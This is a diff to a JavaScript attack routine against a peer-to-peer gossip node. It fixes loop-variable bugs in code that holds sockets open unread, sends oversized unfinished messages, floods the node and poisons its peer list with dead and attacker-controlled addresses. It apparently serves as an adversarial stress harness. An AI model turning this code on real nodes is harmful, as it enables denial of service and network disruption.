@@ -36,16 +36,16 @@ function attack({ target, dead }) {
   const gossip = (size) =>
     message('gossip', { id: `${process.pid}${Math.random()}${sent++}`, data: large.slice(0, size) });
 
-  for (let sent = 0; count < IDLE; count++) setTimeout(() => keep(target, () => {}), count * 150);
+  for (let count = 0; count < IDLE; count++) setTimeout(() => keep(target, () => {}), count * 150);
   // Asks for as much as there may be, and takes none of it.
-  for (let sent = 0; count < SLOW; count++) {
+  for (let count = 0; count < SLOW; count++) {
     keep(target, (socket) => {
       socket.pause();
       pour(socket, () => message('echo', large));
     });
   }
   // The largest message there may be, all but its end.
-  for (let sent = 0; count < UNFINISHED; count++) {
+  for (let count = 0; count < UNFINISHED; count++) {
     keep(target, (socket) => socket.write(message('echo', large.repeat(2).slice(0, 1_048_000)).slice(0, -4)));
   }
   const floods = [() => message('ping', 1).repeat(500), () => gossip(1_000).repeat(50), () => gossip(500_000)];
@@ -58,11 +58,11 @@ function attack({ target, dead }) {
     socket.resume();
     for (let port = 1; port <= 60; port++) socket.write(message('add_peer', port));
     for (const host of dead) socket.write(message('add_peer', `${host}:3000`));
-    for (let sent = 0; count < LINKS; count++) socket.write(message('add_peer', FIRST_LINK + count));
+    for (let count = 0; count < LINKS; count++) socket.write(message('add_peer', FIRST_LINK + count));
     const more = setInterval(() => socket.write(message('add_peer', FIRST_LINK + (sent++ % 500))), 100);
     socket.on('close', () => clearInterval(more));
   });
-  for (let sent = 0; count < LINKS; count++) {
+  for (let count = 0; count < LINKS; count++) {
     const listen = FIRST_LINK + count;
     createServer((socket) => {
       socket.on('error', () => {});
